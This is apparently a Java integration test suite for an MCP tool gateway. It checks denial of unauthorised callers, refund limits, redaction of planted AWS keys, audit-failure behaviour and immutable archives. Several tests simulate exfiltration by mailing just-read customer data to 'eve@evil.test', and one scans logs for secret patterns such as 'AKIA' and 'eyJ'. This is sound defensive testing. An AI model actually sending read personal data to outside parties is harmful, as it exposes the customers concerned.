package dev.sluicegate.local;

import static java.util.Objects.requireNonNull;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import dev.sluicegate.cli.RunningStack;
import dev.sluicegate.contract.Product;
import dev.sluicegate.local.idp.TokenOrder;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.concurrent.Callable;
import java.util.concurrent.ExecutionException;
import java.util.concurrent.Executors;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import software.amazon.awssdk.core.sync.RequestBody;
import software.amazon.awssdk.services.dynamodb.model.AttributeValue;
import software.amazon.awssdk.services.dynamodb.model.DynamoDbException;
import software.amazon.awssdk.services.s3.model.S3Exception;

/** The promises of the spine, each against the whole running system. */
class SpineIT {
    /** A Monday morning: refunds wait for a working day. */
    private static final Instant MONDAY = Instant.parse("2026-11-23T10:00:00Z");

    private static LocalStack stack;

    @BeforeAll
    static void up() {
        stack =
                Stacks.ephemeral(
                        Clock.offset(Clock.systemUTC(), Duration.between(Instant.now(), MONDAY)));
    }

    @AfterAll
    static void down() {
        stack.close();
    }

    @Test
    void adaReadsACustomer() {
        var answer = as("ada").call("crm___get_customer", "{\"customer_id\":\"C-1001\"}");

        assertThat(answer.status()).isEqualTo(200);
        assertThat(answer.isError()).isFalse();
        assertThat(answer.structured().path("customer_id").asText()).isEqualTo("C-1001");
        assertThat(answer.structured().has("card_number")).isFalse();
        assertThat(answer.callId()).hasSize(26);
    }

    @Test
    void malloryIsRefusedWithAReason() {
        var answer = as("mallory").call("crm___get_customer", "{\"customer_id\":\"C-1001\"}");

        assertThat(answer.isError()).isTrue();
        assertThat(answer.code()).isEqualTo("denied");
        assertThat(answer.structured().path("message").asText())
                .isEqualTo("no policy permits `crm___get_customer` to a caller without a role");
        assertThat(trace(answer).path("decision").path("outcome").asText()).isEqualTo("deny");
    }

    @Test
    void whatWasReadMayOnlyLeaveToTheOwnDomain() {
        var lena = as("ada", "chain-test", "support");
        lena.call("crm___get_customer", "{\"customer_id\":\"C-1001\"}");

        var outside =
                lena.call(
                        "mail___send",
                        "{\"to\":\"eve@evil.test\",\"subject\":\"s\",\"body\":\"b\"}");
        var hidden =
                lena.call(
                        "mail___send",
                        "{\"to\":\"ben@example.com\",\"cc\":[\"eve@evil.test\"],\"subject\":\"s\",\"body\":\"b\"}");
        var inside =
                lena.call(
                        "mail___send",
                        "{\"to\":\"ben@example.com\",\"subject\":\"s\",\"body\":\"b\"}");

        assertThat(outside.code()).isEqualTo("denied");
        assertThat(outside.structured().path("reasons").toString()).contains("PII");
        assertThat(hidden.code()).isEqualTo("denied");
        assertThat(inside.isError()).isFalse();
    }

    @Test
    void aNewClientDoesNotLaunderWhatWasRead() {
        as("ada", "first-client", "support")
                .call("crm___get_customer", "{\"customer_id\":\"C-1002\"}");

        var answer =
                as("ada", "second-client", "support")
                        .call(
                                "mail___send",
                                "{\"to\":\"eve@evil.test\",\"subject\":\"s\",\"body\":\"b\"}");

        assertThat(answer.code()).isEqualTo("denied");
    }

    @Test
    void refundsFollowTheirLimits() {
        var ada = as("ada");

        var small = refund(ada, "INV-2001", "50");
        var large = refund(ada, "INV-2002", "900");
        var negative = refund(ada, "INV-2001", "-5");

        assertThat(small.isError()).as(small.text()).isFalse();
        assertThat(large.code()).isEqualTo("approval_required");
        assertThat(large.structured().path("approvalId").asText()).isNotBlank();
        assertThat(negative.isError()).isTrue();
        assertThat(negative.code()).isIn("denied", "invalid_arguments");
    }

    @Test
    void theEleventhRefundOfADayNeedsApprovalAlsoWhenElevenArriveAtOnce() throws Exception {
        var user = as("lena", "burst", "support");
        List<Callable<McpClient.Answer>> calls = new ArrayList<>();
        for (var i = 0; i < 11; i++) {
            calls.add(() -> refund(user, "INV-2004", "50"));
        }

        var answers = atOnce(calls);

        assertThat(answers.stream().filter(a -> !a.isError())).hasSize(10);
        assertThat(answers.stream().filter(a -> a.code().equals("approval_required"))).hasSize(1);
        assertThat(refund(user, "INV-2004", "50").code()).isEqualTo("approval_required");
    }

    @Test
    void aPlantedKeyLeavesRedactedInEveryChannel() {
        var answer = as("ada").call("crm___get_customer", "{\"customer_id\":\"C-1003\"}");

        assertThat(answer.isError()).as(answer.text()).isFalse();
        assertThat(answer.text()).contains("[REDACTED:aws_access_key:").doesNotContain("AKIA");
        assertThat(answer.structured().path("notes").asText()).contains("[REDACTED:");
        assertThat(answer.result().path("content").path(0).path("text").asText())
                .contains("[REDACTED:");
        assertThat(trace(answer).path("screening").toString())
                .contains("aws_access_key")
                .doesNotContain("AKIA");
    }

    @Test
    void aListingShowsOnlyWhatTheCallerCouldEverUse() {
        assertThat(names(as("ada").list()))
                .contains("crm___get_customer", "billing___refund", "mail___send");
        assertThat(names(as("mallory").list())).isEmpty();
    }

    @Test
    void withoutTheAuditTableTheToolIsNotEntered() throws Exception {
        var ada = as("ada", "no-audit", "support");
        var before = stack.entered("crm___get_customer");
        try (var _ = stack.lose("audit")) {
            var answer = ada.call("crm___get_customer", "{\"customer_id\":\"C-1001\"}");

            assertThat(answer.code()).isEqualTo("audit_unavailable");
        }
        assertThat(stack.entered("crm___get_customer")).isEqualTo(before);
    }

    @Test
    void withoutAnOutcomeRecordNoResultByteLeaves() throws Exception {
        var ada = as("ada", "no-outcome", "support");
        ada.call(
                "crm___get_customer", "{\"customer_id\":\"C-1001\"}"); // opens the journal's writer
        var before = stack.entered("crm___get_customer");
        try (var _ = stack.loseRecords("2#OUTCOME")) {
            var answer = ada.call("crm___get_customer", "{\"customer_id\":\"C-1001\"}");

            assertThat(answer.code()).isEqualTo("audit_unavailable");
            assertThat(answer.text()).doesNotContain("C-1001");
        }
        assertThat(stack.entered("crm___get_customer")).isEqualTo(before + 1);
    }

    @Test
    void withoutPolicyOrChainStateTheAnswerIsNo() throws Exception {
        var ada = as("ada", "no-chain", "support");
        try (var _ = stack.lose("chains")) {
            assertThat(ada.call("crm___get_customer", "{\"customer_id\":\"C-1001\"}").code())
                    .isEqualTo("policy_unavailable");
        }
        try (var _ = stack.lose("policy")) {
            // reads go on with the last good set for a bounded time, writes do not
            assertThat(refund(ada, "INV-2003", "10").code()).isEqualTo("policy_unavailable");
        }
    }

    @Test
    void whenStsRefusesNothingRuns() throws Exception {
        var user = as("lena", "no-sts", "support");
        try (var _ = stack.refuseSessions()) {
            var answer = user.call("crm___get_customer", "{\"customer_id\":\"C-1005\"}");

            assertThat(answer.isError()).isTrue();
            assertThat(answer.code()).isEqualTo("tool_failed");
            assertThat(trace(answer).path("outcome").path("status").asText()).isEqualTo("refused");
        }
    }

    @Test
    void aTraceTellsTheStoryUpToTheArchive() throws Exception {
        var answer = as("ada").call("crm___get_customer", "{\"customer_id\":\"C-1001\"}");
        stack.awaitArchived(Duration.ofSeconds(20));

        var trace = trace(answer);

        assertThat(trace.path("callId").asText()).isEqualTo(answer.callId());
        assertThat(trace.path("decision").path("outcome").asText()).isEqualTo("permit");
        assertThat(trace.path("decision").path("policies").toString())
                .contains("grant-support-read");
        assertThat(trace.path("intentAt").asText()).isNotBlank();
        assertThat(trace.path("session").path("sourceIdentity").asText()).hasSize(26);
        assertThat(trace.path("session").path("tags").path("customer").asText())
                .isEqualTo("C-1001");
        assertThat(trace.path("outcome").path("status").asText()).isEqualTo("ok");
        assertThat(trace.path("archive").path("log").asText()).startsWith("tlog/");
        assertThat(trace.path("archive").path("checkpoint").asLong())
                .isGreaterThan(trace.path("archive").path("index").asLong());
    }

    @Test
    void whatIsArchivedIsTheRecordAndIsLocked() throws Exception {
        var answer = as("ada").call("crm___get_customer", "{\"customer_id\":\"C-1001\"}");
        stack.awaitArchived(Duration.ofSeconds(20));
        var place = trace(answer).path("archive");
        var size = place.path("checkpoint").asLong();
        var file =
                place.path("log").asText() + String.format(Locale.ROOT, "/checkpoints/%020d", size);
        try (var s3 = stack.s3Client()) {
            assertThat(ArchivedLog.records(s3)).anyMatch(r -> r.contains(answer.callId()));
            var object = s3.getObjectAsBytes(r -> r.bucket(ArchivedLog.BUCKET).key(file));

            assertThat(object.asUtf8String()).startsWith(Product.NAME + "-dev/audit/");
            assertThat(object.response().objectLockModeAsString()).isEqualTo("COMPLIANCE");
            assertThatThrownBy(() ->
                            s3.deleteObject(r ->
                                    r.bucket(ArchivedLog.BUCKET)
                                            .key(file)
                                            .versionId(object.response().versionId())))
                    .isInstanceOf(S3Exception.class);
            assertThatThrownBy(() ->
                            s3.putObject(
                                    r -> r.bucket(ArchivedLog.BUCKET).key(file).ifNoneMatch("*"),
                                    RequestBody.fromString("forged")))
                    .isInstanceOf(S3Exception.class);
        }
    }

    @Test
    void everyRecordOfTheJournalIsInTheArchiveOnce() throws Exception {
        as("ada").call("crm___get_customer", "{\"customer_id\":\"C-1001\"}");
        as("mallory").call("crm___get_customer", "{\"customer_id\":\"C-1001\"}");
        stack.awaitArchived(Duration.ofSeconds(20));
        var journal = new ArrayList<String>();
        stack.operatorClient()
                .scanPaginator(
                        r -> r.tableName(Product.resource("dev", "audit")).consistentRead(true))
                .items()
                .forEach(item -> journal.add(text(item, "r")));

        try (var s3 = stack.s3Client()) {
            assertThat(ArchivedLog.records(s3)).containsExactlyInAnyOrderElementsOf(journal);
        }
    }

    @Test
    void theExecutionRoleOfAToolCannotReadItsTable() {
        try (var tool = stack.asExecutionRole("crm___get_customer")) {
            assertThatThrownBy(() ->
                            tool.getItem(r ->
                                    r.tableName(Product.resource("dev", "demo-customers"))
                                            .key(
                                                    Map.of(
                                                            "pk",
                                                            AttributeValue.fromS("demo#C-1001"),
                                                            "sk",
                                                            AttributeValue.fromS("CUSTOMER")))))
                    .isInstanceOfSatisfying(
                            DynamoDbException.class, e -> assertThat(e.statusCode()).isIn(400, 403))
                    .hasMessageContaining("not authorized");
        }
    }

    @Test
    void aPublishedPolicyDecidesTheNextCallsWithoutARestart() throws Exception {
        var baseline = Stacks.home().resolve("policies").resolve("baseline");
        var edited = Files.createTempDirectory("policies");
        try (var files = Files.list(baseline)) {
            for (var file : files.toList()) {
                Files.copy(file, edited.resolve(file.getFileName()));
            }
        }
        Files.writeString(
                edited.resolve("incident.cedar"),
                """
                @id("incident-7")
                @reason("Customer lookups are closed during an incident")
                forbid (principal, action == Mcp::Action::"crm___get_customer", resource);
                """);
        var ada = as("ada", "policy-test", "support");

        stack.publish(edited);
        var during = eventually(ada, "denied");
        stack.publish(baseline);
        var after = eventually(ada, "");

        assertThat(during.structured().path("reasons").toString()).contains("incident");
        assertThat(
                        stack
                                .operatorClient()
                                .scanPaginator(r -> r.tableName(Product.resource("dev", "audit")))
                                .items()
                                .stream()
                                .filter(i -> text(i, "kind").equals("POLICY_PUBLISHED"))
                                .count())
                .isGreaterThanOrEqualTo(3);
        assertThat(after.isError()).isFalse();
    }

    @Test
    void aSetThatMustNotBePublishedChangesNothing() throws Exception {
        var broken = Files.createTempDirectory("policies");
        Files.copy(
                Stacks.home().resolve("policies").resolve("baseline").resolve("stub.cedarschema"),
                broken.resolve("stub.cedarschema"));
        Files.writeString(
                broken.resolve("broken.cedar"), "permit (principal, action, resource) when {");

        assertThatThrownBy(() -> stack.publish(broken))
                .isInstanceOf(RunningStack.PolicyRefusedException.class)
                .hasMessageContaining("broken.cedar");
        assertThat(
                        as("ada", "policy-test", "support")
                                .call("crm___get_customer", "{\"customer_id\":\"C-1001\"}")
                                .isError())
                .isFalse();
    }

    @Test
    void noLogLineHoldsArgumentsResultsOrTokens() throws Exception {
        var token = stack.token(TokenOrder.of("ada"));
        var ada = new McpClient(stack.mcp(), token);
        ada.call("crm___get_customer", "{\"customer_id\":\"C-1003\"}");
        ada.call(
                "mail___send",
                "{\"to\":\"canary-receiver@evil.test\",\"subject\":\"canary-subject\",\"body\":\"canary-body\"}");
        ada.call("crm___get_customer", "{\"customer_id\":\"canary-not-an-id\"}");
        new McpClient(stack.mcp(), token + "canary").list();

        var log = Files.readString(Path.of("target", "stack.log"));

        assertThat(log).isNotBlank();
        assertThat(log)
                .doesNotContain("canary", "AKIA", "PRIVATE KEY", "Marta Keller")
                .doesNotContain(token.substring(token.indexOf('.') + 1))
                .doesNotContain("eyJ");
    }

    /** Policies reach the router within five seconds. */
    private static McpClient.Answer eventually(McpClient client, String code) throws Exception {
        var answer = client.call("crm___get_customer", "{\"customer_id\":\"C-1001\"}");
        for (var i = 0; i < 50 && !answer.code().equals(code); i++) {
            Thread.sleep(100);
            answer = client.call("crm___get_customer", "{\"customer_id\":\"C-1001\"}");
        }
        return answer;
    }

    private static String text(Map<String, AttributeValue> item, String attribute) {
        return requireNonNull(item.get(attribute)).s();
    }

    private static List<String> names(McpClient.Answer list) {
        var names = new ArrayList<String>();
        list.result().path("tools").forEach(t -> names.add(t.path("name").asText()));
        return names;
    }

    private static McpClient.Answer refund(McpClient as, String invoice, String amount) {
        return as.call(
                "billing___refund",
                "{\"invoice_id\":\""
                        + invoice
                        + "\",\"amount\":"
                        + amount
                        + ",\"currency\":\"EUR\"}");
    }

    private static JsonNode trace(McpClient.Answer answer) {
        return stack.trace(answer.callId()).orElseThrow();
    }

    private static McpClient as(String user) {
        return Stacks.as(stack, user);
    }

    private static McpClient as(String user, String client, String role) {
        return Stacks.as(stack, user, client, role);
    }

    private static <T> List<T> atOnce(List<Callable<T>> calls)
            throws InterruptedException, ExecutionException {
        try (var threads = Executors.newVirtualThreadPerTaskExecutor()) {
            var results = new ArrayList<T>();
            for (var future : threads.invokeAll(calls)) {
                results.add(future.get());
            }
            return results;
        }
    }
}
